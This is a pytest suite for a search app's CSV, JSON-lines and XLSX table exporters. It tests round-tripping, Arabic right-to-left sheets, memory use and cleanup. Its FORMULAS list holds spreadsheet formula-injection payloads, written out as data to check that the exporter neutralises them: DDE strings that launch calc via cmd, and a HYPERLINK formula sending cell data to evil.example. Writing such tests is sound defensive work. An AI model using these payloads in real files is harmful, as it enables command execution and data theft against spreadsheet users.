"""Tables as files: what is read back is what was written, in little memory, and nothing in them runs."""

from __future__ import annotations

import csv
import gc
import io
import json
import math
import tracemalloc
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from searchapp.errors import Message
from searchapp.export import TABLE_FORMATS, Cell, Column, Row, Table, xlsx_table
from searchapp.export.csv_table import formula_safe

BYTE_ORDER_MARK = "\ufeff"
COLUMNS: Final = (
    Column("position", Message(en="Position", ar="الرقم")),
    Column("title", Message(en="Title", ar="العنوان")),
)
NOTE: Final = Message(en="This table is incomplete.", ar="هذا الجدول ناقص.")
#: Well-known ways to make a spreadsheet program run, fetch or open something.
FORMULAS: Final = [
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200f=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
#: What a workbook cannot hold in any way of writing it.
NOWHERE: Final = "\ufffe\uffff"


def table(*rows: Row | Message, language: Any = "en", notes_in: str = "title") -> Table:
    return Table(COLUMNS, iter(rows), language, notes_in)


def written(form: str, given_table: Table) -> bytes:
    return b"".join(TABLE_FORMATS[form].write(given_table))


def read_csv(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline=""), strict=True))


def read_sheets(data: bytes) -> list[list[list[Any]]]:
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return [workbook.get_sheet_by_name(name).to_python() for name in workbook.sheet_names]


def parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


TEXTS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters=NOWHERE))
ROWS = st.lists(st.tuples(st.integers(-(2**50), 2**50) | st.floats(-1e300, 1e300), TEXTS))


@given(ROWS)
def test_what_is_read_back_of_csv_is_what_was_written(rows: list[tuple[float, str]]) -> None:
    read = read_csv(written("csv", table(*rows)))
    assert read == [["Position", "Title"], *([str(number), formula_safe(text)] for number, text in rows)]


@given(ROWS)
def test_what_is_read_back_of_json_lines_is_what_was_written(rows: list[tuple[float, str]]) -> None:
    lines = written("jsonl", table(*rows)).split(b"\n")
    assert lines.pop() == b""
    assert [json.loads(line) for line in lines] == [{"position": number, "title": text} for number, text in rows]


@settings(max_examples=20, deadline=None)
@given(ROWS)
def test_what_is_read_back_of_a_workbook_is_what_was_written(rows: list[tuple[float, str]]) -> None:
    """All but leading and trailing empty rows and columns, which readers leave out."""
    book = openpyxl.load_workbook(io.BytesIO(written("xlsx", table(*rows, (1, "last")))), read_only=True)
    first, *read = book.worksheets[0].iter_rows(values_only=True)
    book.close()
    assert first == ("Position", "Title")
    # Excel reads escapes of control characters back; openpyxl leaves that to who uses it.
    assert [(number, unescape(text or "")) for number, text in read] == [
        (pytest.approx(number, rel=1e-15), text) for number, text in (*rows, (1, "last"))
    ]


@pytest.mark.parametrize("form", TABLE_FORMATS)
def test_titles_and_notes_are_in_the_language_of_the_table(form: str) -> None:
    arabic = written(form, table((1, "نص"), NOTE, language="ar"))
    if form == "jsonl":
        assert [json.loads(line) for line in arabic.splitlines()] == [
            {"position": 1, "title": "نص"},
            {"note": NOTE.ar},
        ]
        return
    read = read_csv(arabic) if form == "csv" else read_sheets(arabic)[0]
    assert read[0] == ["الرقم", "العنوان"]
    assert read[-1] == ["", NOTE.ar]
    assert [str(int(read[1][0])), read[1][1]] == ["1", "نص"]


@pytest.mark.parametrize("form", TABLE_FORMATS)
@pytest.mark.parametrize("cell", [None, math.nan, math.inf, -math.inf, "", "\x00", "\ud800", "\ufffe", 0, True])
def test_no_cell_breaks_a_file(form: str, cell: Cell) -> None:
    data = written(form, table((cell, "نص")))
    if form == "jsonl":
        assert json.loads(data.splitlines()[-1])["title"] == "نص"
    else:
        assert (read_csv(data) if form == "csv" else read_sheets(data)[0])[-1][1] == "نص"


@pytest.mark.parametrize("form", TABLE_FORMATS)
def test_rows_are_taken_one_by_one(form: str) -> None:
    """Never are two alive at once but for the one that is being made."""
    alive: set[int] = set()

    class Watched(str):
        __slots__ = ("number",)
        number: int

        def __del__(self) -> None:
            alive.discard(self.number)

    def rows() -> Iterator[Row]:
        for number in range(50):
            text = Watched("نص")
            text.number = number
            alive.add(number)
            assert len(alive) <= 4, alive
            yield (number, text)

    written(form, Table(COLUMNS, rows(), "en"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_are_texts(formula: str) -> None:
    assert formula_safe(formula) == f"'{formula}"
    data = parts(written("xlsx", table((1, formula))))
    assert "<f>" not in data["xl/worksheets/sheet1.xml"]
    assert not any(name.endswith(".rels") and "hyperlink" in text for name, text in data.items())


@pytest.mark.parametrize("text", ["", "نص", "قال - ثم سكت", "a=b", "x@example.org", "'quoted", "2025-11-06", "١٢"])
def test_other_texts_are_left_alone(text: str) -> None:
    assert formula_safe(text) == text


def test_numbers_stay_numbers() -> None:
    columns = COLUMNS[:1]
    data = written("csv", Table(columns, [(-1.5,), (-2,)], "en"))
    assert data.split(b"\r\n")[1:] == [b"-1.5", b"-2", b""]
    assert read_sheets(written("xlsx", Table(columns, [(-1.5,), (-2,)], "en")))[0][1:] == [[-1.5], [-2.0]]


@pytest.mark.parametrize(
    "text", ["https://example.org/" + "a" * 3000, "mailto:x@example.org", "0012", "1e5", "2025-11-06", "TRUE"]
)
def test_a_workbook_takes_no_text_for_anything_else(text: str) -> None:
    data = written("xlsx", table((None, text)))
    assert read_sheets(data)[0][1] == ["", text]
    assert "hyperlink" not in parts(data)["xl/worksheets/sheet1.xml"]


@pytest.mark.parametrize("text", ["<r><t>x</t></r>", "<r></r>", "<r>&x</r>", "</t></is></c>", "]]>", "&lt;"])
def test_a_workbook_takes_no_text_for_markup(text: str) -> None:
    (_, row) = read_sheets(written("xlsx", table((1, text))))[0]
    assert row[1].rstrip() == text


@pytest.mark.parametrize("letter", ["ن", "😀", "\n"])
def test_a_text_too_long_for_a_cell_is_cut_off_and_the_workbook_says_so(letter: str) -> None:
    fits = letter * (xlsx_table.CELL_LENGTH // (len(letter.encode("utf-16-le")) // 2))
    (_, whole, cut, note) = read_sheets(written("xlsx", table((1, fits), (2, fits + letter * 2))))[0]
    assert whole[1] == fits
    assert cut[1].endswith("…")
    assert fits.startswith(cut[1][:-1])
    assert len(cut[1].encode("utf-16-le")) // 2 in {xlsx_table.CELL_LENGTH, xlsx_table.CELL_LENGTH - 1}
    assert "cut off" in note[1]
    assert note[1].split(".")[0].endswith(": 1")


def test_another_sheet_goes_on_where_one_is_full(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_table, "SHEET_ROWS", 4)
    rows = [(number, "نص") for number in range(7)]
    sheets = read_sheets(written("xlsx", table(*rows)))
    assert [len(sheet) for sheet in sheets] == [4, 4, 2]
    assert {tuple(sheet[0]) for sheet in sheets} == {("Position", "Title")}
    assert [row[0] for sheet in sheets for row in sheet[1:]] == list(range(7))


@pytest.mark.parametrize("language", ["ar", "en"])
def test_sheets_run_in_the_direction_of_the_language(language: str) -> None:
    sheet = parts(written("xlsx", table((1, "نص"), language=language)))["xl/worksheets/sheet1.xml"]
    assert ('rightToLeft="1"' in sheet) == (language == "ar")


@pytest.mark.parametrize("form", TABLE_FORMATS)
def test_the_same_rows_make_the_same_bytes(form: str) -> None:
    rows = [(number, f"نص {number}") for number in range(20)]
    assert written(form, table(*rows)) == written(form, table(*rows))


@pytest.mark.parametrize("form", TABLE_FORMATS)
def test_a_row_that_fails_fails_the_table_and_leaves_nothing(
    form: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def rows() -> Iterator[Row]:
        yield (1, "نص")
        yield (2, "نص")
        raise OSError("gone")

    with pytest.raises(OSError, match="gone"):
        written(form, Table(COLUMNS, rows(), "en"))
    gc.collect()
    assert not list(tmp_path.iterdir())


def test_a_reader_who_goes_away_leaves_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    pieces: Any = TABLE_FORMATS["xlsx"].write(table(*((number, "نص" * 50) for number in range(500))))
    next(pieces)
    pieces.close()
    assert not list(tmp_path.iterdir())


@pytest.mark.slow
@pytest.mark.parametrize("form", TABLE_FORMATS)
def test_a_long_table_takes_no_more_memory_than_a_short_one(form: str) -> None:
    def peak(rows: int) -> int:
        tracemalloc.start()
        for _ in TABLE_FORMATS[form].write(Table(COLUMNS, ((n, f"نص {n} " * 50) for n in range(rows)), "en")):
            pass
        highest = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return highest

    peak(10)
    assert peak(20_000) < peak(2_000) + 100_000
